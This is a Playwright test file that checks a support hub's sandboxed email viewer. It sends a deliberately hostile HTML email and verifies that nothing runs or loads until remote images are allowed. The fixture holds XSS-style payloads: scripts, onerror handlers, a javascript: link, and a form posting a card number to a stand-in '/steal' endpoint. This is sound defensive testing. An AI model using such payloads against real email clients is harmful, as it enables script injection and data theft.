import { expect, test } from '@playwright/test';
import type { ChannelStackInfo } from './support/channelStack.js';
import { fillSignIn } from './support/hubApi.js';
import { startStackScript } from './support/startStack.js';

/**
 * An email shown as the customer wrote it (decision 0026), through the whole path: a REAL mail server,
 * the hub's IMAP gateway, the core's message.body, the renderer's sandboxed frame. A hostile email
 * (script, event handlers, a remote image, a frame, a form, CSS url()) runs nothing and fetches nothing;
 * after "Show remote images" its one image loads, and still nothing else does.
 */
type Stack = ChannelStackInfo & { stop(): Promise<void> };
let stack: Stack;

test.beforeAll(async () => {
  test.setTimeout(150_000);
  stack = await startStackScript<ChannelStackInfo>('tests/e2e/support/channelStack.ts', {}, 60_000);
  test.skip(stack.skip !== undefined, stack.skip);
});

test.afterAll(async () => {
  await stack?.stop();
});

const REMOTE = 'https://images.example';
const HOSTILE = `<!doctype html><html><head>
<style>body { background: url(${REMOTE}/css-background.png) }</style>
<link rel="stylesheet" href="${REMOTE}/sheet.css">
</head><body>
<p>Hello, my <b>order 7781</b> never arrived.</p>
<script>window.pwned = true; try { parent.pwned = true; top.pwned = true; } catch (e) {}</script>
<img src="${REMOTE}/logo.png" alt="Shop logo" width="40" height="20" onerror="parent.pwned = true">
<img src="does-not-exist.png" onerror="parent.pwned = true; top.pwned = true">
<iframe src="${REMOTE}/frame.html"></iframe>
<form action="${REMOTE}/steal" method="post"><input name="card" value="4111"><button>Send</button></form>
<div style="background-image: url(${REMOTE}/inline-background.png)">Styled block</div>
<a href="javascript:parent.pwned = true">Click here</a>
<svg><image href="${REMOTE}/svg.png"></image></svg>
</body></html>`;

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

test('a hostile HTML email runs nothing and loads nothing; remote images load only when allowed', async ({ page }) => {
  test.setTimeout(120_000);
  const remote: string[] = [];
  await page.route(`${REMOTE}/**`, (route) => {
    remote.push(new URL(route.request().url()).pathname);
    return route.fulfill({ status: 200, contentType: 'image/png', body: PNG });
  });

  await page.goto(stack.agentUrl);
  await expect(page.getByLabel('Hub address')).toHaveValue(stack.hubUrl);
  await fillSignIn(page, stack.admin.login, stack.admin.password);

  const reply = await fetch(`${stack.controlUrl}/email`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      subject: 'Order 7781',
      text: 'Hello, my order 7781 never arrived. (text part)',
      html: HOSTILE,
    }),
  });
  expect(reply.ok).toBe(true);
  await page.getByRole('button', { name: /Olga Petrova.*Email/ }).click({ timeout: 20_000 });

  const frameElement = page.locator('iframe[title="Email from Olga Petrova"]');
  await expect(frameElement).toHaveAttribute('sandbox', '');
  const email = page.frameLocator('iframe[title="Email from Olga Petrova"]');
  await expect(email.getByText('order 7781')).toBeVisible();
  await expect(email.getByText('Styled block')).toBeVisible();
  // Nothing that could act is in the email at all (the head holds only the frame's policy and its style).
  await expect(email.locator('body').locator('script, iframe, form, input, style, link, svg')).toHaveCount(0);
  await expect(email.locator('[onerror], [style]')).toHaveCount(0);
  // The text part is there too.
  await page.getByText('Text version').click();
  await expect(page.getByRole('log', { name: 'Messages' })).toContainText('(text part)');

  const showImages = page.getByRole('button', { name: 'Show remote images' });
  await expect(showImages).toBeVisible();
  await expect(page.getByRole('log', { name: 'Messages' })).toContainText('1 remote image is not loaded');
  const pwned = () => page.evaluate(() => (globalThis as { pwned?: boolean }).pwned === true);
  expect(await pwned()).toBe(false);
  expect(remote).toEqual([]);

  await showImages.click();
  await expect(showImages).toHaveCount(0);
  const logo = email.getByRole('img', { name: 'Shop logo' });
  await expect(logo).toBeVisible();
  await expect.poll(() => logo.evaluate((img: { naturalWidth: number }) => img.naturalWidth)).toBeGreaterThan(0);
  expect(remote).toEqual(['/logo.png']);
  expect(await pwned()).toBe(false);
  const inFrame = page.frames().find((frame) => frame !== page.mainFrame());
  expect(await inFrame?.evaluate(() => (globalThis as { pwned?: boolean }).pwned === true)).toBe(false);
});
